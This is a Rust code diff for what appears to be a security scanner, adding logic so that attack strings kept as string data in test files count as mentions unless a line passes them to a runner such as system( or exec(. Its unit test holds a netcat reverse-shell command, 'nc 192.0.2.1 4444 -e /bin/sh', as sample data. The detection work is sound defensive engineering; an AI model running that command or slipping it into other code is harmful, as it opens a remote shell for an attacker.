@@ -535,6 +535,11 @@ fn is_pattern_literal(line: &str) -> bool {
         "Regex::new(",
         "regexp.MustCompile(",
         "Pattern.compile(",
+        // Rule files of detectors (YAML / JSON): `pattern: '…'`, `"regex": "…"`.
+        "pattern: ",
+        "regex: ",
+        "\"pattern\":",
+        "\"regex\":",
     ]
     .iter()
     .any(|o| line.contains(o));
@@ -542,9 +547,94 @@ fn is_pattern_literal(line: &str) -> bool {
         return false;
     }
     let tokens = [
-        "\\s", "\\b", "\\.", "\\d", "\\w", "(?:", "(?i)", "[^", ")*", ")?", "|\\",
+        "\\s", "\\b", "\\.", "\\d", "\\w", "(?:", "(?i)", "[^", ")*", ")?", "|\\", ".*", "\\(",
     ];
     tokens.iter().filter(|t| line.contains(*t)).count() >= 2
+}
+
+/// Whether bytes `start..end` of a code line sit inside one string literal (`"…"`, `'…'`, `` `…` ``)
+/// and nothing on the line runs a string (`system(`, `exec(`, `subprocess`, `spawn(`…): test data.
+fn test_data_literal(line: &str, start: usize, end: usize) -> bool {
+    const RUNNERS: &[&str] = &[
+        "system(",
+        "exec(",
+        "eval(",
+        "popen(",
+        "Popen(",
+        "subprocess",
+        "spawn(",
+        "execSync(",
+        "check_output(",
+        "Invoke-Expression",
+        "iex ",
+        "child_process",
+        "`",
+    ];
+    if RUNNERS.iter().any(|r| line.contains(r)) {
+        return false;
+    }
+    let b = line.as_bytes();
+    let mut open: Option<u8> = None;
+    let mut opened_at = 0;
+    let mut i = 0;
+    while i < b.len() && i < end {
+        let c = b[i];
+        match open {
+            Some(_) if c == b'\\' => i += 1,
+            Some(q) if c == q => open = None,
+            None if matches!(c, b'"' | b'\'') => {
+                open = Some(c);
+                opened_at = i;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    // Still inside the literal opened before the match, and it closes after it; or the whole line
+    // is data (`"name": "sample",`) and the match runs across its literals.
+    open.is_some()
+        && opened_at < start
+        && b[end.min(b.len())..]
+            .iter()
+            .any(|&c| Some(c) == open)
+        || data_line(line)
+}
+
+/// Whether a code line is only string literals and the punctuation of a list, map or assignment
+/// (`"k": "v",`, `x = ["a", "b"]`).
+fn data_line(line: &str) -> bool {
+    let mut rest = String::new();
+    let mut open: Option<char> = None;
+    let mut literals = 0;
+    let mut escaped = false;
+    for c in line.chars() {
+        match open {
+            Some(_) if escaped => escaped = false,
+            Some(_) if c == '\\' => escaped = true,
+            Some(q) if c == q => open = None,
+            Some(_) => {}
+            None if c == '"' || c == '\'' => {
+                open = Some(c);
+                literals += 1;
+            }
+            None => rest.push(c),
+        }
+    }
+    let rest = rest.trim_start();
+    // An assignment or key at the start (`SAMPLE = `, `sample: `).
+    let ident = rest
+        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
+        .unwrap_or(rest.len());
+    let rest = if ident > 0 && rest[ident..].trim_start().starts_with(['=', ':']) {
+        &rest[ident..]
+    } else {
+        rest
+    };
+    open.is_none()
+        && literals > 0
+        && rest
+            .chars()
+            .all(|c| c.is_whitespace() || "=:,()[]{};".contains(c))
 }
 
 /// How far before and after a soft line break the joined text is searched.
@@ -976,6 +1066,12 @@ pub fn scan_file(rules: &RuleSet, file: &str, content: &str) -> FileScan {
                     Context::Test => place.test,
                     Context::Signature => place.signature || in_code && is_pattern_literal(line),
                 });
+                // In a test file, an attack string held as data (a sample a detector is tested
+                // on) is mentioned, not done; a line that hands the string to a runner still acts.
+                let mention = mention.or_else(|| {
+                    (place.test && in_code && test_data_literal(line, hit.start, hit.end))
+                        .then_some(&Context::Test)
+                });
                 if let Some(fact) = rule.fact
                     && mention.is_none()
                 {
@@ -1077,6 +1173,23 @@ mod tests {
         let q = r#"Attackers hide text with "font-size:0" in a span."#;
         assert!(!super::in_html_tag(q, q.find("font-size").unwrap()));
         assert!(!super::in_html_tag("a < b and \"c\"", 12));
+    }
+
+    #[test]
+    fn attack_strings_held_as_test_data() {
+        let l = r#"    "nc-exec": "nc 192.0.2.1 4444 -e /bin/sh","#;
+        let at = l.find("nc 192").unwrap();
+        assert!(super::test_data_literal(l, at, at + 20));
+        let run = r#"    os.system("nc 192.0.2.1 4444 -e /bin/sh")"#;
+        let at = run.find("nc 192").unwrap();
+        assert!(!super::test_data_literal(run, at, at + 20));
+        let across = r#"    "nc-exec": "nc 192.0.2.1 4444 -e /bin/sh","#;
+        let at = across.find("nc-exec").unwrap();
+        assert!(super::test_data_literal(across, at, across.find("-e ").unwrap() + 3));
+        let call = r#"    run_sample("nc 192.0.2.1 4444 -e /bin/sh")"#;
+        assert!(!super::data_line(call));
+        let bare = "nc 192.0.2.1 4444 -e /bin/sh";
+        assert!(!super::test_data_literal(bare, 0, 20));
     }
 
     #[test]
